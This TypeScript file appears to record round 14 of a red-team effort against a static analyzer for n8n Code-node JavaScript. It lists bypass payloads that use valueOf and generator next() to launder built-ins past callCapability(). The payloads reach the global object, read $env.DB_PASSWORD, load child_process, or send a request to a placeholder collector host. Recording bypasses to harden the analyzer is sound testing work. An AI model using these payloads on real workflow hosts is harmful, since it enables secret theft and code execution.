// Round 14 of the code-purity red team. Each entry was confirmed with ./n8n-sandbox.ts (default runner flags and hardened host; Node 20,
// and Node 24.21.0 where node24 is set) while analyzeJavaScript() reports nothing.
// One class: a built-in method called on a built-in receiver with no built-in or unknown argument gives ambient() (clean):
// callCapability() checks only inputs.slice(1) for a built-in, not the receiver, so a method returning its receiver
// (valueOf) or an iterator's next() launders the built-in.
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';

export const ROUND14: RedTeamBypass[] = [
  {
    "id": "receiver-launder/object-prototype-valueOf-call",
    "cls": "builtin-receiver-launder",
    "code": "const OP = Object.prototype.valueOf();\nOP.zz = OP.valueOf;\nconst G = this.zz();\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "callCapability() for a call whose callee is a built-in member (calleeCap.kind === 'builtin') looks for a built-in only in inputs.slice(1), the arguments and callback returns, never in the receiver; with none there it returns ambient(), i.e. clean. So a built-in method that returns its receiver, called with no arguments on a built-in, launders the built-in: Object.prototype.valueOf() is Object.prototype, clean to the analysis; OP.zz = OP.valueOf is then no builtinWrite, this.zz() (a key the global object lacks) calls valueOf with the global object as receiver, and G.$env.DB_PASSWORD is read and returned."
  },
  {
    "id": "receiver-launder/object-prototype-valueOf-call-node24",
    "cls": "builtin-receiver-launder",
    "code": "const OP = Object.prototype.valueOf();\nOP.zz = OP.valueOf;\nconst G = this.zz();\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "node24": true,
    "why": "callCapability() for a call whose callee is a built-in member (calleeCap.kind === 'builtin') looks for a built-in only in inputs.slice(1), the arguments and callback returns, never in the receiver; with none there it returns ambient(), i.e. clean. So a built-in method that returns its receiver, called with no arguments on a built-in, launders the built-in: same as the first entry, confirmed on Node 24.21.0 as n8n 2.41.1 runs it."
  },
  {
    "id": "receiver-launder/object-valueOf-require",
    "cls": "builtin-receiver-launder",
    "code": "const O = Object.valueOf();\nO.prototype.mine = O.prototype.valueOf;\nconst G = this.mine();\nconst cp = G.require('child_process');\nreturn [{ json: { ok: typeof cp } }];",
    "why": "callCapability() for a call whose callee is a built-in member (calleeCap.kind === 'builtin') looks for a built-in only in inputs.slice(1), the arguments and callback returns, never in the receiver; with none there it returns ambient(), i.e. clean. So a built-in method that returns its receiver, called with no arguments on a built-in, launders the built-in: Object.valueOf() is Object itself, clean; O.prototype.mine = O.prototype.valueOf, this.mine() is the global object, and G.require is called."
  },
  {
    "id": "receiver-launder/generator-next-value-env",
    "cls": "builtin-receiver-launder",
    "code": "function* g() { yield Object.prototype; }\nconst OP = g().next().value;\nOP.zz = OP.valueOf;\nconst G = this.zz();\nreturn [{ json: { e: G.$env.DB_PASSWORD } }];",
    "why": "callCapability() for a call whose callee is a built-in member (calleeCap.kind === 'builtin') looks for a built-in only in inputs.slice(1), the arguments and callback returns, never in the receiver; with none there it returns ambient(), i.e. clean. So a built-in method that returns its receiver, called with no arguments on a built-in, launders the built-in: a generator yielding Object.prototype makes g() a built-in (its return capability); g().next is builtinMember(), a built-in, and g().next() has no arguments, so it is ambient(): .value is Object.prototype, clean. Then the valueOf-on-the-global-object trick reads $env.DB_PASSWORD."
  },
  {
    "id": "receiver-launder/generator-next-value-http",
    "cls": "builtin-receiver-launder",
    "code": "function* g() { yield Object.prototype; }\nconst OP = g().next().value;\nOP.pick = OP.valueOf;\nconst G = globalThis.pick();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "callCapability() for a call whose callee is a built-in member (calleeCap.kind === 'builtin') looks for a built-in only in inputs.slice(1), the arguments and callback returns, never in the receiver; with none there it returns ambient(), i.e. clean. So a built-in method that returns its receiver, called with no arguments on a built-in, launders the built-in: generator variant: g().next().value is Object.prototype, clean; globalThis.pick() returns the global object and helpers.httpRequest is called."
  }
];

export const ROUND14_FALSE_POSITIVES: RedTeamFalsePositive[] = [];
